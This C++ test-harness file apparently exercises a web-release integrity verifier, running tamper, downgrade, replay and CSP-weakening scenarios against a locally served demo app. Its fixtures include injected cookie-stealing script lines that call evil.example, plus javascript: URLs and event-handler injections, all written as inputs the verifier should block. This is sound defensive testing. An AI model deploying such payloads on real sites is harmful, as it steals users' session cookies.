#include "wait/harness/harness.h"

#include <httplib.h>

#include <algorithm>
#include <chrono>
#include <cinttypes>
#include <cstdio>
#include <fstream>
#include <functional>
#include <random>
#include <set>
#include <utility>

#include "wait/bundler/bundler.h"
#include "wait/core/error.h"
#include "wait/core/files.h"
#include "wait/core/header.h"
#include "wait/logd/http_server.h"
#include "wait/logd/service.h"
#include "wait/merklelog/log.h"
#include "wait/monitor/monitor.h"
#include "wait/verifier/html.h"

namespace waitsec::harness {

namespace fs = std::filesystem;

namespace {

constexpr std::int64_t kEpoch = 1'750'000'000;

const std::vector<std::string> kScriptNames = {"vendor", "runtime", "app", "router", "store", "ui"};
const std::vector<std::string> kStyleNames = {"main", "theme"};

std::string script_path(int i) {
  std::string name = i < static_cast<int>(kScriptNames.size()) ? kScriptNames[i] : "module" + std::to_string(i);
  return "js/" + name + ".js";
}

std::string style_path(int i) {
  std::string name = i < static_cast<int>(kStyleNames.size()) ? kStyleNames[i] : "sheet" + std::to_string(i);
  return "css/" + name + ".css";
}

std::string generate_script(const std::string& name, std::uint64_t target, std::mt19937_64& rng) {
  std::string head = "/* " + name + " */\n(function () {\n  'use strict';\n  var table = [\n";
  std::string tail = "  ];\n  window.waitDemo = window.waitDemo || {};\n  window.waitDemo['" + name +
                     "'] = table.length;\n})();\n";
  std::string out = head;
  char line[96];
  for (;;) {
    int n = std::snprintf(line, sizeof line, "    0x%016" PRIx64 ", 0x%016" PRIx64 ", 0x%016" PRIx64 ",\n",
                          rng(), rng(), rng());
    if (out.size() + n + tail.size() > target) break;
    out.append(line, n);
  }
  return out + tail;
}

std::string generate_stylesheet(std::uint64_t target, std::mt19937_64& rng) {
  std::string out = "body { margin: 0; font-family: sans-serif; }\n";
  char line[96];
  for (;;) {
    std::uint64_t r = rng();
    int n = std::snprintf(line, sizeof line, ".m%08" PRIx64 " { color: #%06" PRIx64 "; margin: %dpx %dpx; }\n",
                          r & 0xffffffffu, (r >> 32) & 0xffffffu, static_cast<int>((r >> 56) % 32),
                          static_cast<int>((r >> 60) % 16));
    if (out.size() + n > target) break;
    out.append(line, n);
  }
  return out;
}

std::string content_type(const fs::path& path) {
  std::string ext = path.extension().string();
  if (ext == ".html") return "text/html; charset=utf-8";
  if (ext == ".js") return "text/javascript";
  if (ext == ".css") return "text/css";
  if (ext == ".json") return "application/json";
  return "application/octet-stream";
}

std::string request_target(const Url& url) {
  return url.query.empty() ? url.path : url.path + "?" + url.query;
}

}  // namespace

DemoBundle generate_demo_bundle(const fs::path& dir, const DemoBundleSpec& spec) {
  if (spec.scripts < 1 || spec.stylesheets < 0) throw Error(ErrorCode::kConfig, "demo bundle needs a script");
  DemoBundle bundle;
  bundle.dir = dir;
  fs::create_directories(dir / "js");
  fs::create_directories(dir / "css");

  std::uint64_t script_budget = spec.stylesheets > 0 ? spec.subresource_bytes * 88 / 100 : spec.subresource_bytes;
  std::uint64_t style_budget = spec.subresource_bytes - script_budget;
  // Uneven split so the files look like a real build output.
  std::uint64_t script_weights = 0;
  for (int i = 0; i < spec.scripts; ++i) script_weights += static_cast<std::uint64_t>(spec.scripts - i) + 2;

  auto emit = [&](const std::string& rel, const std::string& content) {
    write_file_atomic(dir / rel, content);
    bundle.subresources.push_back(rel);
    bundle.total_bytes += content.size();
  };
  for (int i = 0; i < spec.scripts; ++i) {
    std::mt19937_64 rng(spec.seed + static_cast<std::uint64_t>(i));
    std::uint64_t share = script_budget * (static_cast<std::uint64_t>(spec.scripts - i) + 2) / script_weights;
    std::string rel = script_path(i);
    emit(rel, generate_script(fs::path(rel).stem().string(), share, rng));
  }
  for (int i = 0; i < spec.stylesheets; ++i) {
    std::mt19937_64 rng(spec.seed + 1000 + static_cast<std::uint64_t>(i));
    std::uint64_t share = style_budget / static_cast<std::uint64_t>(spec.stylesheets);
    emit(style_path(i), generate_stylesheet(share, rng));
  }

  std::string html = "<!DOCTYPE html>\n<html lang=\"en\">\n<head>\n  <meta charset=\"utf-8\">\n";
  html += "  <title>WAIT demo " + spec.version + "</title>\n";
  for (int i = 0; i < spec.stylesheets; ++i) html += "  <link rel=\"stylesheet\" href=\"" + style_path(i) + "\">\n";
  int head_scripts = std::min(spec.scripts, 2);
  for (int i = 0; i < head_scripts; ++i) html += "  <script src=\"" + script_path(i) + "\" defer></script>\n";
  html += "</head>\n<body>\n  <div id=\"app\" data-version=\"" + spec.version + "\"></div>\n";
  html += "  <noscript>This application needs JavaScript.</noscript>\n";
  for (int i = head_scripts; i < spec.scripts; ++i) html += "  <script src=\"" + script_path(i) + "\"></script>\n";
  html += "</body>\n</html>\n";
  write_file_atomic(dir / bundle.main_document, html);
  bundle.total_bytes += html.size();
  return bundle;
}

StaticSite::StaticSite() = default;

StaticSite::~StaticSite() { stop(); }

void StaticSite::start() {
  server_ = std::make_unique<httplib::Server>();
  server_->Get(R"(/.*)", [this](const httplib::Request& req, httplib::Response& res) {
    std::string rel = req.path == "/" ? "index.html" : req.path.substr(1);
    std::optional<Bytes> body;
    HttpHeaders headers;
    {
      std::lock_guard lock(mu_);
      headers = headers_;
      if (auto it = overrides_.find(rel); it != overrides_.end()) {
        body = it->second;
      } else if (rel.find("..") == std::string::npos && !root_.empty()) {
        std::ifstream in(root_ / rel, std::ios::binary);
        if (in && fs::is_regular_file(root_ / rel)) {
          body = Bytes((std::istreambuf_iterator<char>(in)), std::istreambuf_iterator<char>());
        }
      }
    }
    for (const auto& [name, value] : headers) res.set_header(name, value);
    if (!body) {
      res.status = 404;
      res.set_content("not found", "text/plain");
      return;
    }
    res.status = 200;
    res.set_content(std::string(body->begin(), body->end()), content_type(rel));
  });
  port_ = server_->bind_to_any_port("127.0.0.1");
  if (port_ < 0) {
    port_ = 0;
    throw Error(ErrorCode::kSetup, "static site cannot bind a port");
  }
  thread_ = std::thread([this] { server_->listen_after_bind(); });
  server_->wait_until_ready();
}

void StaticSite::stop() {
  if (server_) server_->stop();
  if (thread_.joinable()) thread_.join();
}

void StaticSite::set_root(const fs::path& root) {
  std::lock_guard lock(mu_);
  root_ = root;
}

void StaticSite::set_headers(HttpHeaders headers) {
  std::lock_guard lock(mu_);
  headers_ = std::move(headers);
}

void StaticSite::apply_server_config(std::string_view snippet) { set_headers(parse_server_config(snippet)); }

void StaticSite::override_file(const std::string& path, Bytes content) {
  std::lock_guard lock(mu_);
  overrides_[path] = std::move(content);
}

void StaticSite::clear_overrides() {
  std::lock_guard lock(mu_);
  overrides_.clear();
}

std::optional<HttpResponse> local_get(int port, const Url& url) {
  httplib::Client client("127.0.0.1", port);
  client.set_connection_timeout(2);
  client.set_read_timeout(10);
  auto res = client.Get(request_target(url));
  if (!res) return std::nullopt;
  HttpResponse out;
  out.status = res->status;
  out.body = to_bytes(res->body);
  for (const auto& [name, value] : res->headers) out.headers.emplace_back(name, value);
  return out;
}

SubresourceFetcher local_fetcher(int port) {
  return [port](const Url& url) -> std::optional<Bytes> {
    if (url.host != kDemoHost) return std::nullopt;
    auto res = local_get(port, url);
    if (!res || res->status != 200) return std::nullopt;
    return std::move(res->body);
  };
}

nlohmann::json ScenarioReport::to_json() const {
  nlohmann::json steps_json = nlohmann::json::array();
  for (const auto& s : steps) {
    steps_json.push_back({{"name", s.name}, {"expected", s.expected}, {"observed", s.observed}, {"ok", s.ok}});
  }
  nlohmann::json j = {{"name", name}, {"passed", passed}, {"steps", steps_json}, {"reasons_seen", reasons_seen}};
  if (!error.empty()) j["error"] = error;
  return j;
}

nlohmann::json BenchSummary::to_json() const {
  return {{"iterations", iterations}, {"min_ms", min_ms},       {"median_ms", median_ms},
          {"p95_ms", p95_ms},         {"fixture_bytes", fixture_bytes}, {"all_allowed", all_allowed}};
}

namespace {

PrivateSeed fixed_seed(std::uint8_t tag) {
  PrivateSeed seed{};
  for (std::size_t i = 0; i < seed.size(); ++i) seed[i] = static_cast<std::uint8_t>(0x57 + tag * 31 + i);
  return seed;
}

std::string join(const std::vector<std::string>& parts, std::string_view sep) {
  std::string out;
  for (const auto& p : parts) {
    if (!out.empty()) out += sep;
    out += p;
  }
  return out;
}

std::string outcome_text(const LogOutcome& outcome) {
  if (outcome.ok()) return "accepted";
  if (outcome.log_code) return std::string(error_code_name(*outcome.log_code));
  if (outcome.error) return std::string(error_code_name(*outcome.error));
  return "failed";
}

std::string replace_once(std::string text, std::string_view from, std::string_view to) {
  auto pos = text.find(from);
  if (pos == std::string::npos) throw Error(ErrorCode::kSetup, "fixture lacks " + std::string(from));
  return text.replace(pos, from.size(), to);
}

const HtmlElement& element_with(const HtmlDocument& doc, std::string_view name, std::string_view attr,
                                std::string_view value) {
  for (const auto& e : doc.elements) {
    auto* a = e.attribute(attr);
    if (e.name == name && a && a->value == value) return e;
  }
  throw Error(ErrorCode::kSetup, "fixture lacks <" + std::string(name) + " " + std::string(attr) + "=" +
                                     std::string(value) + ">");
}

// Drops one attribute, with its leading whitespace, from an element.
std::string remove_attribute(const std::string& document, std::string_view element, std::string_view key,
                             std::string_view key_value, std::string_view attr) {
  HtmlDocument doc = parse_html(document);
  const HtmlElement& e = element_with(doc, element, key, key_value);
  const HtmlAttribute* a = e.attribute(attr);
  if (!a) throw Error(ErrorCode::kSetup, "fixture element lacks " + std::string(attr));
  std::size_t begin = a->begin;
  while (begin > 0 && document[begin - 1] == ' ') --begin;
  std::string out = document;
  return out.erase(begin, a->end - begin);
}

std::string set_attribute(const std::string& document, std::string_view element, std::string_view key,
                          std::string_view key_value, std::string_view attr, std::string_view value) {
  HtmlDocument doc = parse_html(document);
  const HtmlElement& e = element_with(doc, element, key, key_value);
  const HtmlAttribute* a = e.attribute(attr);
  if (!a || !a->has_value) throw Error(ErrorCode::kSetup, "fixture element lacks " + std::string(attr));
  std::string out = document;
  return out.replace(a->value_begin, a->value_end - a->value_begin, value);
}

std::string remove_element(const std::string& document, std::string_view element, std::string_view key,
                           std::string_view key_value) {
  HtmlDocument doc = parse_html(document);
  const HtmlElement& e = element_with(doc, element, key, key_value);
  std::string out = document;
  return out.erase(e.begin, e.end - e.begin);
}

HttpHeaders without_header(HttpHeaders headers, std::string_view name) {
  std::erase_if(headers, [&](const auto& h) { return ascii_lower(h.first) == ascii_lower(name); });
  return headers;
}

HttpHeaders with_header(HttpHeaders headers, std::string_view name, std::string value) {
  headers = without_header(std::move(headers), name);
  headers.emplace_back(std::string(name), std::move(value));
  return headers;
}

class Recorder {
 public:
  explicit Recorder(std::string name) { report_.name = std::move(name); }

  // An empty expectation means ALLOW with no reasons.
  void verdict(const std::string& step, const Verdict& v, const std::vector<Reason>& expect) {
    std::vector<std::string> names;
    for (Reason r : expect) names.push_back(std::string(reason_name(r)));
    bool ok = expect.empty() ? v.allowed() && v.reasons.empty()
                             : !v.allowed() && std::all_of(expect.begin(), expect.end(),
                                                           [&](Reason r) { return v.has(r); });
    std::vector<std::string> codes = v.codes();
    seen_.insert(codes.begin(), codes.end());
    add(step, expect.empty() ? "ALLOW" : "BLOCK " + join(names, " "),
        v.allowed() ? "ALLOW" : "BLOCK " + join(codes, " "), ok);
  }

  void outcome(const std::string& step, const LogOutcome& o, std::optional<ErrorCode> expect) {
    std::string want = expect ? std::string(error_code_name(*expect)) : "accepted";
    std::string got = outcome_text(o);
    add(step, want, got, want == got);
  }

  void log_call(const std::string& step, const std::function<void()>& action, std::optional<ErrorCode> expect) {
    std::string got = "accepted";
    try {
      action();
    } catch (const Error& e) {
      got = std::string(e.code_name());
    }
    std::string want = expect ? std::string(error_code_name(*expect)) : "accepted";
    add(step, want, got, want == got);
  }

  void check(const std::string& step, bool ok, const std::string& expected, const std::string& observed) {
    add(step, expected, observed, ok);
  }

  ScenarioReport finish() {
    report_.reasons_seen.assign(seen_.begin(), seen_.end());
    report_.passed = !report_.steps.empty() &&
                     std::all_of(report_.steps.begin(), report_.steps.end(), [](const auto& s) { return s.ok; });
    return std::move(report_);
  }

 private:
  void add(const std::string& step, std::string expected, std::string observed, bool ok) {
    report_.steps.push_back({step, std::move(expected), std::move(observed), ok});
  }

  ScenarioReport report_;
  std::set<std::string> seen_;
};

struct Release {
  SealedRelease sealed;
  fs::path site;
  std::vector<InclusionPromise> promises;

  const std::string& document() const { return sealed.manifest.document; }
  Hash32 leaf_hash() const { return promises.at(0).leaf_hash; }
};

// One log served over HTTP, one static site and a browser-side pin store,
// all on a shared virtual clock.
class Environment {
 public:
  Environment(const fs::path& workdir, const std::string& name)
      : dir_(workdir / name),
        clock(kEpoch),
        log_key(KeyPair::from_seed(fixed_seed(1))),
        developer(KeyPair::from_seed(fixed_seed(2))) {
    fs::remove_all(dir_);
    fs::create_directories(dir_);
    service = std::make_unique<logd::LogService>(log_key, "", logd::LogPolicy{}, clock.as_clock(),
                                                 merklelog::MerkleLog::in_memory());
    server = std::make_unique<logd::LogHttpServer>(*service);
    int port = server->start("127.0.0.1", 0);
    log = LogIdentity::for_key(log_key.public_key(), "http://127.0.0.1:" + std::to_string(port));
    site.start();
    config.trust_store = {log};
  }

  ~Environment() {
    site.stop();
    server->stop();
  }

  std::int64_t now() const { return clock.now(); }
  const fs::path& dir() const { return dir_; }

  Release seal(const std::string& version) {
    DemoBundleSpec spec;
    spec.version = version;
    DemoBundle bundle = generate_demo_bundle(dir_ / ("src-" + version), spec);
    Release r;
    r.sealed = seal_bundle(bundle.dir, bundle.main_document, std::string(kDemoUrl), developer, now());
    fs::path out = dir_ / ("rel-" + version);
    write_sealed_bundle(r.sealed, out);
    r.site = out / "site";
    return r;
  }

  LogOutcome submit(Release& r) {
    LogOutcome o = submit_release(r.sealed.leaf, {log}).at(0);
    if (o.ok()) r.promises = {*o.promise};
    return o;
  }

  LogOutcome renew(const Hash32& leaf_hash) { return renew_promise(leaf_hash, developer, {log}, now()).at(0); }

  HttpHeaders headers_for(const Release& r) const {
    return parse_server_config(emit_server_config(r.promises, r.sealed.manifest.csp));
  }

  void publish(const Release& r) {
    site.set_root(r.site);
    site.clear_overrides();
    site.set_headers(headers_for(r));
  }

  Verdict visit(PinStore& pins, std::string_view url = kDemoUrl, const ValidationConfig* cfg = nullptr) {
    auto parsed = Url::parse(url);
    if (!parsed) throw Error(ErrorCode::kSetup, "bad scenario URL");
    auto res = local_get(site.port(), *parsed);
    if (!res) throw Error(ErrorCode::kSetup, "static site unreachable");
    return decide(res->body, res->headers, url, pins, cfg ? *cfg : config, now(), local_fetcher(site.port()));
  }

 private:
  fs::path dir_;

 public:
  VirtualClock clock;
  KeyPair log_key;
  KeyPair developer;
  std::unique_ptr<logd::LogService> service;
  std::unique_ptr<logd::LogHttpServer> server;
  LogIdentity log;
  StaticSite site;
  ValidationConfig config;
};

Release sealed_and_live(Environment& env, Recorder& rec, const std::string& version) {
  Release r = env.seal(version);
  rec.outcome("submit " + version, env.submit(r), std::nullopt);
  if (r.promises.empty()) throw Error(ErrorCode::kSetup, "log refused the initial release");
  env.publish(r);
  return r;
}

std::string promise_wire(const InclusionPromise& p) { return base64url_encode(canonical_encode(p)); }

ScenarioReport happy_path(Environment& env) {
  Recorder rec("happy_path");
  Release v1 = sealed_and_live(env, rec, "1.0.0");

  std::uint64_t total = v1.document().size();
  for (const auto& r : v1.sealed.manifest.resources) total += r.size;
  std::size_t count = v1.sealed.manifest.resources.size() + 1;
  rec.check("demo bundle shape", count == 9 && total > 1'400'000 && total < 1'600'000, "9 resources, ~1.5 MB",
            std::to_string(count) + " resources, " + std::to_string(total / 1000) + " kB");

  PinStore pins;
  rec.verdict("verify sealed release", env.visit(pins), {});
  rec.check("pin created", pins.active(kDemoUrl, env.now()).has_value(), "pinned",
            pins.active(kDemoUrl, env.now()) ? "pinned" : "absent");

  Monitor monitor({}, {WatchRule{WatchKind::kAppUrl, std::string(kDemoUrl), "demo"}}, env.clock.as_clock(),
                  http_log_clients());
  auto alerts = monitor.poll(env.log);
  bool matched = alerts.size() == 1 && alerts[0].leaf_hash == v1.leaf_hash();
  rec.check("monitor reports the release", matched, "1 alert", std::to_string(alerts.size()) + " alert(s)");
  AuditReport audit = monitor.audit_release(env.log, v1.leaf_hash());
  rec.check("audit of the logged leaf", audit.ok(), "ok", audit.ok() ? "ok" : "failed");
  return rec.finish();
}

ScenarioReport insider_tamper(Environment& env) {
  Recorder rec("insider_tamper");
  Release v1 = sealed_and_live(env, rec, "1.0.0");
  const std::string& doc = v1.document();
  const HttpHeaders base = env.headers_for(v1);
  const std::string csp = v1.sealed.manifest.csp;
  const InclusionPromise& genuine = v1.promises.at(0);
  std::string promise_header(kPromiseHeader);
  std::string csp_header = "Content-Security-Policy";

  auto attempt = [&](const std::string& step, const std::optional<std::string>& served, const HttpHeaders& headers,
                     const std::vector<Reason>& expect) {
    env.site.clear_overrides();
    if (served) env.site.override_file("index.html", to_bytes(*served));
    env.site.set_headers(headers);
    PinStore pins;
    rec.verdict(step, env.visit(pins), expect);
  };

  attempt("untouched release", std::nullopt, base, {});

  std::string flipped = doc;
  std::size_t title = flipped.find("<title>") + 7;
  flipped[title] = static_cast<char>(flipped[title] ^ 0x20);
  attempt("one byte flipped in main document", flipped, base, {Reason::kPromiseDigestMismatch});

  attempt("inline script injected",
          replace_once(doc, "</body>", "<script>fetch('https://evil.example/?c=' + document.cookie)</script>\n</body>"),
          base, {Reason::kDocInlineScript, Reason::kPromiseDigestMismatch});
  attempt("inline style injected", replace_once(doc, "</head>", "<style>body { display: none }</style>\n</head>"),
          base, {Reason::kDocInlineStyle, Reason::kPromiseDigestMismatch});
  attempt("event handler injected", replace_once(doc, "<div id=\"app\"", "<div id=\"app\" onclick=\"steal()\""),
          base, {Reason::kDocEventHandler, Reason::kPromiseDigestMismatch});
  attempt("javascript URL injected",
          replace_once(doc, "</body>", "<a href=\"javascript:steal()\">help</a>\n</body>"), base,
          {Reason::kDocJavascriptUrl, Reason::kPromiseDigestMismatch});
  attempt("integrity stripped", remove_attribute(doc, "script", "src", "js/app.js", "integrity"), base,
          {Reason::kDocMissingSri, Reason::kPromiseDigestMismatch});
  attempt("script moved to an insecure origin",
          set_attribute(doc, "script", "src", "js/app.js", "src", "http://evil.example/app.js"), base,
          {Reason::kDocBadReference, Reason::kPromiseDigestMismatch});
  attempt("integrity replaced by a weak hash",
          set_attribute(doc, "script", "src", "js/app.js", "integrity", "md5-1B2M2Y8AsgTpgAmY7PhCfg=="), base,
          {Reason::kSriSyntax, Reason::kPromiseDigestMismatch});
  attempt("script pointed at a missing file",
          set_attribute(doc, "script", "src", "js/app.js", "src", "js/missing.js"), base,
          {Reason::kSriFetchFailed, Reason::kPromiseDigestMismatch});
  attempt("unterminated comment appended", doc + "<!--", base,
          {Reason::kDocParse, Reason::kPromiseDigestMismatch});

  attempt("CSP header removed", std::nullopt, without_header(base, csp_header), {Reason::kCspNotHeader});
  attempt("CSP header and meta removed",
          remove_element(doc, "meta", "http-equiv", "Content-Security-Policy"), without_header(base, csp_header),
          {Reason::kCspMissing, Reason::kPromiseDigestMismatch});

  struct CspCase {
    std::string name;
    std::string policy;
    Reason reason;
  };
  const std::vector<CspCase> csp_cases = {
      {"no script policy", "object-src 'none'", Reason::kCspNoScriptPolicy},
      {"unsafe-inline", replace_once(csp, "script-src 'self'", "script-src 'self' 'unsafe-inline'"),
       Reason::kCspUnsafeInline},
      {"unsafe-eval", replace_once(csp, "script-src 'self'", "script-src 'self' 'unsafe-eval'"),
       Reason::kCspUnsafeEval},
      {"unsafe-hashes", replace_once(csp, "script-src 'self'", "script-src 'self' 'unsafe-hashes'"),
       Reason::kCspUnsafeHashes},
      {"strict-dynamic", replace_once(csp, "script-src 'self'", "script-src 'self' 'strict-dynamic'"),
       Reason::kCspStrictDynamic},
      {"nonce", replace_once(csp, "script-src 'self'", "script-src 'self' 'nonce-r4nd0m'"), Reason::kCspNonce},
      {"wildcard", replace_once(csp, "script-src 'self'", "script-src *"), Reason::kCspWildcard},
      {"data scheme", replace_once(csp, "script-src 'self'", "script-src 'self' data:"), Reason::kCspUnsafeScheme},
      {"plain http source", replace_once(csp, "script-src 'self'", "script-src 'self' http://cdn.example"),
       Reason::kCspInsecureSource},
      {"object-src relaxed", replace_once(csp, "object-src 'none'", "object-src 'self'"),
       Reason::kCspObjectNotNone},
      {"strict but different policy", "default-src 'self'; object-src 'none'", Reason::kCspMismatch},
  };
  for (const auto& c : csp_cases) {
    attempt("CSP header: " + c.name, std::nullopt, with_header(base, csp_header, c.policy),
            {c.reason, Reason::kCspMismatch});
  }

  attempt("promise header garbled", std::nullopt, with_header(base, promise_header, "%%%"),
          {Reason::kHeaderSyntax});
  InclusionPromise future = genuine;
  future.version = 2;
  attempt("promise header with a bad and an unknown entry", std::nullopt,
          with_header(base, promise_header, "!!!, " + promise_wire(future)),
          {Reason::kPromiseMalformed, Reason::kPromiseUnsupportedVersion});

  // An insider with their own key and their own log.
  KeyPair insider = KeyPair::from_seed(fixed_seed(3));
  logd::LogService rogue(KeyPair::from_seed(fixed_seed(4)), "", logd::LogPolicy{}, env.clock.as_clock(),
                         merklelog::MerkleLog::in_memory());
  ReleaseLeaf forged{std::string(kDemoUrl), insider.public_key(), digest_bytes(as_bytes(flipped)), env.now(), {}};
  sign_record(forged, insider);
  InclusionPromise rogue_promise = rogue.handle_submit({forged});
  attempt("tampered release logged by an untrusted log", flipped,
          with_header(base, promise_header, promise_wire(rogue_promise)), {Reason::kPromiseUntrustedLog});

  InclusionPromise edited = genuine;
  edited.digest = digest_bytes(as_bytes(flipped));
  attempt("promise digest edited to match the tampered document", flipped,
          with_header(base, promise_header, promise_wire(edited)), {Reason::kPromiseBadSig});

  struct FieldEdit {
    std::string name;
    std::function<void(InclusionPromise&)> edit;
    Reason reason;
  };
  const std::vector<FieldEdit> edits = {
      {"log_id", [](auto& p) { p.log_id[0] ^= 1; }, Reason::kPromiseUntrustedLog},
      {"leaf_hash", [](auto& p) { p.leaf_hash[5] ^= 1; }, Reason::kPromiseBadSig},
      {"app_url", [](auto& p) { p.app_url += "x"; }, Reason::kPromiseBadSig},
      {"digest", [](auto& p) { p.digest.value[0] ^= 1; }, Reason::kPromiseBadSig},
      {"developer_key", [](auto& p) { p.developer_key[7] ^= 1; }, Reason::kPromiseBadSig},
      {"issued_at", [](auto& p) { p.issued_at -= 1; }, Reason::kPromiseBadSig},
      {"expires_at", [](auto& p) { p.expires_at += 1; }, Reason::kPromiseBadSig},
      {"version", [](auto& p) { p.version = 2; }, Reason::kPromiseUnsupportedVersion},
      {"log_signature", [](auto& p) { (*p.log_signature)[10] ^= 1; }, Reason::kPromiseBadSig},
  };
  for (const auto& e : edits) {
    InclusionPromise p = genuine;
    e.edit(p);
    attempt("promise field edited: " + e.name, std::nullopt, with_header(base, promise_header, promise_wire(p)),
            {e.reason});
  }
  return rec.finish();
}

ScenarioReport subresource_tamper(Environment& env) {
  Recorder rec("subresource_tamper");
  Release v1 = sealed_and_live(env, rec, "1.0.0");
  PinStore pins;
  rec.verdict("untouched release", env.visit(pins), {});

  std::mt19937_64 rng(0x5542);
  for (const auto& res : v1.sealed.manifest.resources) {
    Bytes body = to_bytes(read_file(v1.site / res.path));
    std::size_t pos = rng() % body.size();
    body[pos] ^= static_cast<std::uint8_t>(1u << (rng() % 8));
    env.site.clear_overrides();
    env.site.override_file(res.path, body);
    rec.verdict("one byte flipped in " + res.path, env.visit(pins), {Reason::kSriMismatch});
  }
  env.site.clear_overrides();
  env.site.override_file("js/app.js", to_bytes("fetch('https://evil.example/?c=' + document.cookie);\n"));
  rec.verdict("js/app.js replaced", env.visit(pins), {Reason::kSriMismatch});
  Bytes truncated = to_bytes(read_file(v1.site / "css/main.css"));
  truncated.resize(truncated.size() / 2);
  env.site.clear_overrides();
  env.site.override_file("css/main.css", truncated);
  rec.verdict("css/main.css truncated", env.visit(pins), {Reason::kSriMismatch});
  return rec.finish();
}

ScenarioReport downgrade(Environment& env) {
  Recorder rec("downgrade");
  Release v1 = sealed_and_live(env, rec, "1.0.0");
  const HttpHeaders full = env.headers_for(v1);
  const HttpHeaders stripped = without_header(full, kPromiseHeader);
  const std::string http_url = "http://" + std::string(kDemoHost) + "/index.html";

  PinStore pins;
  env.site.set_headers(stripped);
  rec.verdict("header stripped before any visit", env.visit(pins), {});
  rec.check("no pin from an unprotected response", pins.size() == 0, "0 pins", std::to_string(pins.size()) + " pins");

  env.site.set_headers(full);
  rec.verdict("protected visit", env.visit(pins), {});
  env.site.set_headers(stripped);
  rec.verdict("header stripped after a pin", env.visit(pins), {Reason::kDowngrade});
  rec.verdict("header stripped, plain http", env.visit(pins, http_url), {Reason::kDowngrade});
  env.site.set_headers(full);
  rec.verdict("header served over plain http", env.visit(pins, http_url), {Reason::kInsecureContext});

  fs::path pin_file = env.dir() / "pins.json";
  pinstore_save(pins, pin_file);
  PinStore reloaded = pinstore_load(pin_file, env.now());
  env.site.set_headers(stripped);
  rec.verdict("header stripped after restart", env.visit(reloaded), {Reason::kDowngrade});

  env.clock.advance(env.config.pin_max_age + 1);
  rec.verdict("header stripped after the pin expired", env.visit(reloaded), {});
  return rec.finish();
}

ScenarioReport promise_replay(Environment& env) {
  Recorder rec("promise_replay");
  Release v1 = sealed_and_live(env, rec, "1.0.0");
  PinStore pins;
  rec.verdict("original location", env.visit(pins), {});

  env.site.override_file("copy.html", to_bytes(v1.document()));
  std::string copy_url = "https://" + std::string(kDemoHost) + "/copy.html";
  rec.verdict("release and promise replayed at another path", env.visit(pins, copy_url),
              {Reason::kPromiseUrlMismatch});
  env.site.clear_overrides();

  // A second trusted log and a policy that needs both.
  KeyPair second_key = KeyPair::from_seed(fixed_seed(5));
  logd::LogService second(second_key, "", logd::LogPolicy{}, env.clock.as_clock(), merklelog::MerkleLog::in_memory());
  ValidationConfig two = env.config;
  two.trust_store.push_back(LogIdentity::for_key(second_key.public_key(), "http://127.0.0.1:1"));
  two.required_promises = 2;
  HttpHeaders headers = env.headers_for(v1);
  env.site.set_headers(with_header(headers, kPromiseHeader, promise_to_header({v1.promises[0], v1.promises[0]})));
  PinStore fresh;
  rec.verdict("one promise repeated to fake a quorum", env.visit(fresh, kDemoUrl, &two), {Reason::kPromiseQuorum});
  InclusionPromise from_second = second.handle_submit({v1.sealed.leaf});
  env.site.set_headers(with_header(headers, kPromiseHeader, promise_to_header({v1.promises[0], from_second})));
  rec.verdict("promises from two logs", env.visit(fresh, kDemoUrl, &two), {});

  RenewalRequest renewal{v1.leaf_hash(), env.developer.public_key(), env.now() + 60, {}};
  sign_record(renewal, env.developer);
  env.clock.advance(60);
  std::uint64_t size = env.service->tree_size();
  auto client = logd::make_http_client(env.log.base_url);
  rec.log_call("fresh renewal", [&] { client->renew(renewal); }, std::nullopt);
  env.clock.advance(150);
  rec.log_call("renewal replayed inside the freshness window", [&] { client->renew(renewal); }, std::nullopt);
  env.clock.advance(151);
  rec.log_call("renewal replayed outside the freshness window", [&] { client->renew(renewal); },
               ErrorCode::kStaleTimestamp);
  rec.check("tree size unchanged by renewals", env.service->tree_size() == size, std::to_string(size),
            std::to_string(env.service->tree_size()));
  return rec.finish();
}

ScenarioReport deferred_upgrade(Environment& env) {
  Recorder rec("deferred_upgrade");
  Release v1 = sealed_and_live(env, rec, "1.0.0");
  PinStore pins;
  rec.verdict("v1 while fresh", env.visit(pins), {});

  const std::int64_t expires = v1.promises[0].expires_at;
  const std::int64_t tolerance = env.config.clock_tolerance;
  env.clock.set(expires - env.service->policy().clock_tolerance / 2);
  Release v2 = env.seal("2.0.0");
  rec.outcome("v2 submitted inside the tolerance window", env.submit(v2), std::nullopt);

  // The attacker keeps serving v1 with its old promise.
  auto expect_at = [&](std::int64_t t) {
    return t > expires + tolerance ? std::vector<Reason>{Reason::kPromiseExpired} : std::vector<Reason>{};
  };
  for (std::int64_t offset : {tolerance - 1, tolerance, tolerance + 1}) {
    env.clock.set(expires + offset);
    rec.verdict("v1 replayed at expires_at+" + std::to_string(offset), env.visit(pins), expect_at(env.now()));
  }
  env.clock.set(expires + tolerance + 3600);
  rec.verdict("v1 replayed an hour later", env.visit(pins), {Reason::kPromiseExpired});
  if (!v2.promises.empty()) env.publish(v2);
  rec.verdict("v2 served", env.visit(pins), {});
  return rec.finish();
}

ScenarioReport rollover(Environment& env) {
  Recorder rec("rollover");
  Monitor monitor({}, {WatchRule{WatchKind::kAppUrl, std::string(kDemoUrl), "demo"}}, env.clock.as_clock(),
                  http_log_clients());
  std::size_t alerts = 0;
  auto poll = [&] { alerts += monitor.poll(env.log).size(); };
  auto size_check = [&](const std::string& step, std::uint64_t want) {
    std::uint64_t got = env.service->tree_size();
    rec.check(step, got == want, "tree size " + std::to_string(want), "tree size " + std::to_string(got));
  };

  Release v1 = sealed_and_live(env, rec, "1.0.0");
  poll();
  env.clock.advance(60);
  LogOutcome duplicate = submit_release(v1.sealed.leaf, {env.log}).at(0);
  rec.outcome("v1 submitted again", duplicate, std::nullopt);
  size_check("duplicate submit keeps the tree", 1);
  poll();

  env.clock.set(kEpoch + 3600);
  Release early = env.seal("2.0.0");
  rec.outcome("v2 an hour after v1", env.submit(early), ErrorCode::kActivePromise);
  size_check("rejected submit keeps the tree", 1);

  LogOutcome renewed = env.renew(v1.leaf_hash());
  rec.outcome("v1 renewed", renewed, std::nullopt);
  bool later = renewed.ok() && renewed.promise->expires_at > v1.promises[0].expires_at;
  rec.check("renewal extends expiry", later, "later expires_at", later ? "later expires_at" : "not extended");
  size_check("renewal keeps the tree", 1);
  poll();

  std::int64_t v1_expiry = renewed.ok() ? renewed.promise->expires_at : v1.promises[0].expires_at;
  env.clock.set(v1_expiry - env.service->policy().clock_tolerance);
  Release v2 = env.seal("2.0.0");
  rec.outcome("v2 at the start of the tolerance window", env.submit(v2), std::nullopt);
  size_check("v2 appended", 2);
  poll();

